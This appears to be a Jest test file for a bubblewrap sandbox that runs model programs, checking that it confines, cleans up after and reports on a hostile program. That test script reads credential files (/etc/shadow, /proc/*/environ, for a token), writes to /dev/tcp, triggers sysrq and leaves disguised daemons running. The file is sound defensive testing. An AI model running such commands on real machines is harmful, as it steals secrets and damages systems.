import { request } from 'node:http'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { childProcesses } from '../../src/adapters/process.ts'
import { machineSandbox } from '../../src/adapters/machine-sandbox.ts'
import type { SandboxedProgram } from '../../src/ports/sandbox.ts'

let directory: string
beforeAll(() => {
  directory = mkdtempSync(join(tmpdir(), 'sandbox-test-'))
  mkdirSync(join(directory, 'store'))
  writeFileSync(join(directory, 'model.gguf'), 'GGUF')
  writeFileSync(join(directory, 'private'), 'a secret of this user')
})
afterAll(() => rmSync(directory, { recursive: true, force: true }))

/** A store path whose program is this script. */
function storePathOf(script: string, interpreter = '/bin/bash'): string {
  const storePath = mkdtempSync(join(directory, 'store', 'side-'))
  mkdirSync(join(storePath, 'bin'))
  writeFileSync(join(storePath, 'bin', 'program'), `#!${interpreter}\n${script}\n`)
  chmodSync(join(storePath, 'bin', 'program'), 0o755)
  return storePath
}

const TOKEN = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'
const sandboxWith = (environment: Record<string, string> = {}) =>
  machineSandbox({
    processes: childProcesses(),
    environment: { PATH: process.env['PATH'] ?? '', GITHUB_TOKEN: TOKEN, NIX_CONFIG: 'x', ...environment },
    scratchDirectory: join(directory, 'scratch'),
  })

const asked = (storePath: string, change: Partial<SandboxedProgram> = {}): SandboxedProgram => ({
  wish: 'auto',
  variant: 'cpu',
  storePath,
  program: 'bin/program',
  arguments: [],
  readable: [join(directory, 'model.gguf')],
  timeoutSeconds: 20,
  ...change,
})

/** Programs that still have this word among their arguments, wherever they moved. */
const running = (word: string): string[] =>
  readdirSync('/proc').filter((name) => /^\d+$/.test(name) && commandLine(name).includes(word))

function commandLine(id: string): string {
  try {
    return readFileSync(`/proc/${id}/cmdline`, 'latin1')
  } catch {
    return ''
  }
}

test('a hostile program gets nothing, leaves nothing, and what it tried is told', async () => {
  const word = `daemon-${process.pid}-${Date.now()}`
  const sandbox = sandboxWith()
  const storePath = storePathOf(`
    echo "environment: $(env | cut -d= -f1 | sort | tr '\\n' ' ')"
    cat /proc/*/environ 2>/dev/null | grep -ac ${TOKEN}
    cat ${directory}/private /root/.bashrc /etc/passwd /etc/shadow 2>/dev/null; ls /home /root /var ${directory} 2>/dev/null
    echo x > /dev/tcp/192.0.2.1/80; echo x > /dev/udp/192.0.2.1/53
    echo hello > ~/note; echo x > "$0"; echo x > ${directory}/model.gguf; echo x > /usr/x; echo x > /x; echo x > ${directory}/x
    echo 1 > /proc/sysrq-trigger; mount -t tmpfs none /tmp; mknod /tmp/disk b 254 0
    (setsid bash -c 'trap "" TERM HUP; exec -a ${word} sleep 600' & ) &
    (exec -a ${word} setsid sleep 600) &
    sleep 0.2
    ls /dev | tr '\\n' ' '
    dd if=/dev/zero of=/tmp/big bs=1M count=4000; dd if=/dev/zero of=/dev/shm/big bs=1M count=4000
    cat ${directory}/model.gguf
    exit 7`)
  expect(await sandbox.state('required')).toEqual({ kind: 'bubblewrap', reason: expect.stringMatching(/bwrap works here; .*(?:bounds|no control group)/) })
  const ending = await sandbox.run(asked(storePath))
  expect(ending).toMatchObject({ exitCode: 7, signal: null, timedOut: false, startError: null })
  const lines = ending.stdout.trim().split('\n')
  expect(lines).toEqual([
    'environment: HOME LANG PATH PWD SHLVL TMPDIR _ ',
    '0',
    // the names that lead to what may be read, and nothing beside them
    `${directory}:`,
    'model.gguf',
    'store',
    'core fd full null ptmx pts random shm stderr stdin stdout tty urandom zero GGUF',
  ])
  expect(running(word)).toEqual([])
  expect(readdirSync(directory).toSorted()).toEqual(['model.gguf', 'private', 'store'])
  expect(readFileSync(join(directory, 'model.gguf'), 'utf8')).toBe('GGUF')
  expect(ending.stderrTail).not.toContain('llama-fleet-')
  expect(await sandbox.traces(storePath)).toEqual([
    'tried 2 times to reach the network, in vain',
    expect.stringMatching(/^left 2 processes \(sleep, sleep\) running; ended$/),
    'filled the 256 MiB that it may write',
    'wrote 2 files (/tmp/home/note, /tmp/big) beside its output; removed',
  ])
})

test('a program that behaves leaves no trace, and its signals and its absence arrive as they are', async () => {
  const sandbox = sandboxWith({ LLAMA_FLEET_SANDBOX_READABLE: join(directory, 'private') })
  const good = storePathOf(`mkdir -p ~/.cache; echo x > ~/.cache/shader; cat ${directory}/private; echo "$1 $HOME $PWD" >&2; echo y > ${directory}/out`)
  writeFileSync(join(directory, 'out'), '')
  const said: string[] = []
  const ending = await sandbox.run(asked(good, { arguments: ['a b'], writable: [join(directory, 'out')], onStderrLine: (line) => said.push(line) }))
  expect(ending).toMatchObject({ exitCode: 0, stdout: 'a secret of this user', stderrTail: 'a b /tmp/home /tmp/home\n' })
  expect(said).toEqual(['a b /tmp/home /tmp/home'])
  expect(readFileSync(join(directory, 'out'), 'utf8')).toBe('y\n')
  expect(await sandbox.traces(good)).toEqual([])
  expect(await sandbox.run(asked(storePathOf('kill -SEGV $$')))).toMatchObject({ exitCode: 139, stderrTail: '' })
  expect((await sandbox.run(asked('/nonexistent'))).startError).toContain('is not installed')
  expect((await sandbox.run(asked(storePathOf('', '/no/loader')))).startError).toContain('is not installed, or its loader')
  const hanging = await sandbox.run(asked(storePathOf('trap "" TERM; while :; do sleep 1; done'), { timeoutSeconds: 0.3 }))
  expect(hanging).toMatchObject({ timedOut: true, startError: null })
})

test('what a program inside uses of the CPU counts as ours, not as somebody else’s', async () => {
  const ticks = (): number => Number(/\) (?:\S+ ){13}(\d+)/.exec(readFileSync('/proc/self/stat', 'latin1'))?.[1])
  const before = ticks()
  await sandboxWith().run(asked(storePathOf('end=$((SECONDS + 2)); while [ $SECONDS -lt $end ]; do :; done')))
  // one to two seconds of work, of which a crowded machine leaves us a share
  expect(ticks() - before).toBeGreaterThan(5)
})

test('a server inside is reached through its socket, and ends when it is told to', async () => {
  const sandbox = sandboxWith()
  const server = storePathOf(`require('node:http').createServer((q, a) => a.end('alive')).listen('server.sock', () => console.log('listening'))`, process.execPath)
  for (const wish of ['auto', 'off'] as const) {
    const stop = new AbortController()
    let reach = (name: string): string => name
    const answers: Promise<string>[] = []
    const ending = await sandbox.run(
      asked(server, {
        wish,
        readable: [process.execPath],
        stop: stop.signal,
        onStart: (given) => (reach = given),
        onStdoutLine: () => {
          answers.push(get(reach('server.sock')).finally(() => stop.abort()))
        },
      }),
    )
    expect(await Promise.all(answers)).toEqual(['alive'])
    expect(ending.timedOut).toBe(false)
    expect(ending.exitCode ?? ending.signal).not.toBe(0)
  }
})

function get(socketPath: string): Promise<string> {
  return new Promise((resolve, reject) => {
    request({ socketPath, path: '/health' }, (answer) => answer.setEncoding('utf8').on('data', resolve)).on('error', reject).end()
  })
}

describe('Without a sandbox', () => {
  const bwrap = (name: string, script: string): string => {
    const path = join(directory, name)
    writeFileSync(path, `#!/bin/bash\n${script}\n`)
    chmodSync(path, 0o755)
    return path
  }

  test.each([
    ['forbids it', 'echo "bwrap: No permissions to create new namespace" >&2; exit 1', 'does not work here: bwrap: No permissions to create new namespace'],
    ['only seems to have it', 'exit 0', 'does not work here: it ended with 0'],
    ['keeps nothing out of it', 'while [ "$1" != -- ]; do shift; done; shift; HOME=$(mktemp -d) exec "$@"', 'does not work here: '],
  ])('a machine that %s says so, and `required` is refused', async (name, script, reason) => {
    const sandbox = sandboxWith({ LLAMA_FLEET_BWRAP: bwrap(`bwrap-${name.replaceAll(' ', '-')}`, script) })
    expect(await sandbox.state('auto')).toEqual({ kind: 'none', reason: expect.stringContaining(reason) })
    await expect(sandbox.state('required')).rejects.toThrow(/^A sandbox is required, and this machine gives none: /)
  })

  test('a machine without bubblewrap says so', async () => {
    const sandbox = sandboxWith({ LLAMA_FLEET_BWRAP: '/nonexistent/bwrap' })
    expect(await sandbox.state('auto')).toEqual({ kind: 'none', reason: 'LLAMA_FLEET_BWRAP names /nonexistent/bwrap, where no program is' })
    expect(await sandbox.state('off')).toEqual({ kind: 'none', reason: 'switched off in the config' })
  })

  test('the environment is as short, and what was left is ended, removed and told', async () => {
    const word = `daemon-${process.pid}-${Date.now()}`
    const sandbox = sandboxWith()
    const storePath = storePathOf(`env | cut -d= -f1 | sort | tr '\\n' ' '; echo x > ~/note; (setsid bash -c 'exec -a ${word} sleep 600' >/dev/null 2>&1 &); sleep 0.2`)
    const ending = await sandbox.run(asked(storePath, { wish: 'off' }))
    expect(ending.stdout).toBe('HOME LANG PATH PWD SHLVL TMPDIR _ ')
    expect(await sandbox.traces(storePath)).toEqual(['left a process running; ended', 'wrote a file in its home; removed'])
    await new Promise((resolve) => setTimeout(resolve, 100))
    expect(running(word)).toEqual([])
    expect(existsSync(join(directory, 'scratch')) && readdirSync(join(directory, 'scratch'))).toEqual([])
  })
})
